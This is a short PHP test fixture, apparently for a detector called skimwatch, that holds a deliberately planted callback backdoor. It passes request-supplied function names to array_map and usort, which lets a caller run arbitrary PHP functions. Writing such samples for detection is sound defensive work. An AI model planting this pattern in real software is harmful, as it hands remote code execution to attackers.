<?php
// Synthetic callback backdoor for skimwatch tests: the callback's name comes
// from the request.
@array_map($_REQUEST['cb'], array($_REQUEST['arg']));
$list = array($_POST['x']);
usort($list, $_POST['cmp']);
